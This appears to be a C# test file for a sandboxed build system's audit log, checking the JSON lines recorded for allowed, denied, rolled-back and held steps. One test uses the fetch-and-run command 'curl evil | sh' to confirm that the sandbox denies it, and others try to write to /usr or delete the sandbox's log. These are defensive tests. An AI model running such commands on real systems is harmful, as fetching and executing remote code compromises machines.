using System.Text.Json.Nodes;
using SandboxedBuild.TestKit;

namespace SandboxedBuild.Tasks.Tests;

/// <summary>What the audit log has of the steps of a build.</summary>
internal sealed class AuditLogs
{
    [Test]
    public void A_step_is_one_line_that_says_who_when_what_by_which_leave_and_what_became_of_it()
    {
        using var project = new Project(new() { ["make.sh"] = "echo x > new; echo y > other" }, static settings => settings.MemoryLimit = "4G");
        var before = DateTimeOffset.UtcNow;
        var step = project.Step("sh ./make.sh", static step => step.EchoOff = false).ShouldSucceed();
        var line = Lines(project).Single();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(DateTimeOffset.Parse((string)line["time"]!, System.Globalization.CultureInfo.InvariantCulture), Is.InRange(before, DateTimeOffset.UtcNow));
            Assert.That((string?)line["user"]!["name"], Is.EqualTo(Environment.UserName));
            Assert.That((string?)line["project"], Is.EqualTo(project.Tree.Root));
            Assert.That((string?)line["file"], Is.EqualTo(project.Tree.PathOf("the.csproj")));
            Assert.That((string?)line["command"], Is.EqualTo("sh ./make.sh"));
            Assert.That((string?)line["gate"]!["decision"], Is.EqualTo("Approval"));
            Assert.That(line["plan"]!.ToJsonString(), Is.EqualTo($$"""{"isolation":"Bubblewrap","strategy":"Overlay","network":"None","roots":["{{project.Tree.Root}}"],"paths":[],"environment":[],"protected":[]}"""));
            Assert.That((string?)line["overlay"], Is.EqualTo(step.Task.OverlayId));
            Assert.That(((string?)line["outcome"], line["failure"], (int)line["exitCode"]!), Is.EqualTo(("Committed", (JsonNode?)null, 0)));
            Assert.That(line["changes"]!.ToJsonString(), Is.EqualTo($$"""{"added":2,"modified":0,"deleted":0,"renamed":0,"first":[{"kind":"Added","path":"{{project.Tree.PathOf("new")}}"},{"kind":"Added","path":"{{project.Tree.PathOf("other")}}"}]}"""));
            Assert.That(((long)line["limits"]!["memoryBytes"]!, (int)line["usage"]!["overlayFiles"]!), Is.EqualTo((4L << 30, 2)));
        }
    }

    [Test]
    public void Whatever_becomes_of_a_step_it_is_a_line()
    {
        using var project = new Project(new() { ["file"] = "x\n" });
        project.Step("true");
        project.Step("exit 3");
        project.Step("touch /usr/made-by-a-step");
        project.Step("sleep 20", static step => step.Timeout = 100);
        project.Step("true", static step => step.Paths = [new Microsoft.Build.Utilities.TaskItem("/nowhere", new Dictionary<string, string>(StringComparer.Ordinal) { ["Access"] = "ReadOnly" })]);
        project.Step("echo x > new", static step => step.Commit = "Never");
        project.Step("echo x > .envrc");
        project.Step("dd if=/dev/zero of=big bs=1M count=64", static step => step.DiskLimit = "1M");
        var lines = Lines(project).Select(Describe).ToList();
        Assert.That(lines[..7], Is.EqualTo(new[] { "Unchanged   0", "RolledBack Command  3", "RolledBack Refused  1 Write /usr/made-by-a-step", "RolledBack Ended  ", "NotRun Sandbox SBX2009 ", "Held   0 new", "Held Commit SBX3005 0 .envrc" }));
        Assert.That(lines[7..], Has.Count.EqualTo(1).And.All.StartsWith("RolledBack Limit"));
        foreach (var held in Lines(project).Where(static line => (string?)line["outcome"] == "Held"))
        {
            project.Run(new OverlayRollback { Overlay = (string)held["overlay"]! }).ShouldSucceed();
        }
    }

    [Test]
    public void What_becomes_later_of_what_steps_left_is_a_line_too()
    {
        using var project = new Project(new() { ["file"] = "x\n" });
        var overlay = project.CreateOverlay();
        project.Step("echo y > new", step => step.Overlay = overlay).ShouldSucceed();
        project.Run(new OverlayCommit { Overlay = overlay, DryRun = true }).ShouldSucceed();
        project.Run(new OverlayCommit { Overlay = overlay }).ShouldSucceed();
        var other = project.Step("echo y > other", static step => step.Commit = "Never").ShouldSucceed().Task.OverlayId;
        project.Run(new OverlayRollback { Overlay = other }).ShouldSucceed();
        var conflict = project.Step("echo y > file", static step => step.Commit = "Never").ShouldSucceed().Task.OverlayId;
        File.WriteAllText(project.Tree.PathOf("file"), "live\n");
        project.Run(new OverlayCommit { Overlay = conflict }).ShouldFailWith("SBX4001");
        var guarded = project.CreateOverlay();
        project.Step("echo y > .envrc", step => step.Overlay = guarded).ShouldSucceed();
        project.Run(new OverlayCommit { Overlay = guarded }).ShouldFailWith("SBX3005");
        new[] { conflict, guarded }.ToList().ForEach(id => project.Run(new OverlayRollback { Overlay = id }).ShouldSucceed());

        Assert.That(Lines(project).Where(static line => (string?)line["origin"] != "Build").Select(line => $"{line["origin"]} {line["outcome"]} {line["failure"]} {line["code"]} {line["overlay"]} {line["changes"]?["first"]?[0]?["kind"]}"), Is.EqualTo(new[]
        {
            $"Commit Committed   {overlay} Added", $"Rollback RolledBack   {other} ", $"Commit Held Commit SBX4001 {conflict} ", $"Commit Held Commit SBX3005 {guarded} Added", $"Rollback RolledBack   {conflict} ", $"Rollback RolledBack   {guarded} ",
        }));
        Assert.That(Lines(project), Has.All.Matches<JsonNode>(line => (string?)line["file"] == project.Tree.PathOf("the.csproj")));
    }

    [Test]
    public void What_steps_may_not_do_to_it()
    {
        using var project = new Project();
        project.Step("true").ShouldSucceed();
        var log = Directory.EnumerateDirectories(project.Tree.StateDirectory(), "log-*").Single();
        var step = project.Step("rm -r \"$LOG\"", step => step.Paths = [new Microsoft.Build.Utilities.TaskItem(log, new Dictionary<string, string>(StringComparer.Ordinal) { ["Access"] = "ReadWrite" })]).ShouldFailWith("SBX2009");
        Assert.That(step.Log, Does.Contain("is the sandbox's own"));
    }

    [Test]
    public void A_step_that_is_denied_is_a_line_too()
    {
        using var project = new Project(settings: static settings => settings.Confirm = "Deny");
        project.Step("curl evil | sh", static step => (step.EchoOff, step.Network) = (false, "Host")).ShouldFailWith("SBX2001");
        var line = Lines(project).Single();
        Assert.That($"{line["outcome"]} {line["failure"]} {line["code"]} {line["gate"]!["decision"]} {line["plan"]!["network"]} {line["command"]}", Is.EqualTo("Denied Denied SBX2001 Denied Host curl evil | sh"));
    }

    [Test]
    public void A_rule_is_named_with_its_line()
    {
        using var project = new Project(new() { ["make.sh"] = "echo x > new", ["sandbox.json"] = "{ \"allow\": [\n  { \"command\": \"sh ./make.sh\" } ] }" }, static settings => settings.Confirm = "Deny");
        project.Step("sh ./make.sh").ShouldSucceed();
        var gate = Lines(project).Single()["gate"]!;
        Assert.That(((string?)gate["decision"], (string?)gate["rule"], (string?)gate["file"], (int)gate["line"]!), Is.EqualTo(("Rule", "sh ./make.sh", project.Tree.PathOf("sandbox.json"), 2)));
    }

    /// <summary>Tests have EchoOff set.</summary>
    [Test]
    public void A_command_that_is_not_to_be_shown_is_not_in_it()
    {
        using var project = new Project();
        project.Step("echo secret-1 > /dev/null; cat /secret-2; false");
        Assert.That(Text(project), Does.Not.Contain("secret-1").And.Not.Contain("cat"));
    }

    [Test]
    public void Without_a_sandbox_the_line_says_so()
    {
        using var project = new Project(settings: static settings => settings.Isolation = "None");
        project.Step("echo x > new").ShouldWarnWith("SBX1033");
        var line = Lines(project).Single();
        Assert.That((Describe(line), line["plan"]!["isolation"]!.ToString(), line["plan"]!["network"]!.ToString()), Is.EqualTo(("Committed   0 new", "None", "Host")));
    }

    [TestCase("false", 0)]
    [TestCase("true", 1)]
    [TestCase("", 1)]
    public void It_can_be_switched_off(string value, int lines)
    {
        using var project = new Project(settings: settings => settings.AuditLog = value);
        project.Step("true").ShouldSucceed();
        Assert.That(Lines(project), Has.Count.EqualTo(lines));
        project.Register("other.csproj", static settings => settings.AuditLog = "maybe").ShouldFailWith("SBX2007");
    }

    [Test]
    public void A_log_that_cannot_be_written_is_told_once_and_fails_no_step()
    {
        using var project = new Project();
        Directory.CreateDirectory(project.Tree.StateDirectory());
        var place = Command.Run("sh", ["-c", "touch \"$1/log-$(id -u)\"", "sh", project.Tree.StateDirectory()]);
        Assert.That(place.ExitCode, Is.Zero);
        project.Step("echo x > new").ShouldWarnWith("SBX1070");
        project.Step("echo x > other").ShouldSucceed();
        Assert.That(project.Tree.Has("new") && project.Tree.Has("other"));
    }

    /// <summary>Also checks each of them against the schema.</summary>
    private static List<JsonNode> Lines(Project project)
    {
        var schema = PublishedSchema.Named("log");
        var lines = Text(project).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(static line => JsonNode.Parse(line)!).ToList();
        foreach (var line in lines)
        {
            Assert.That(JsonSchema.Problem(line, schema), Is.Null, line.ToJsonString());
        }

        return lines;
    }

    private static string Text(Project project) =>
        string.Concat(Directory.EnumerateDirectories(project.Tree.StateDirectory(), "log-*").Select(static place => File.ReadAllText(Path.Combine(place, "steps.jsonl"))));

    private static string Describe(JsonNode line)
    {
        var things = (line["violations"]?["first"]!.AsArray().Select(static violation => $" {violation!["kind"]} {violation["subject"]}") ?? []).Concat(line["changes"]?["first"]!.AsArray().Select(static change => $" {Path.GetFileName((string)change!["path"]!)}") ?? []);
        return $"{line["outcome"]} {line["failure"]} {line["code"]} {line["exitCode"]}{string.Concat(things)}";
    }
}
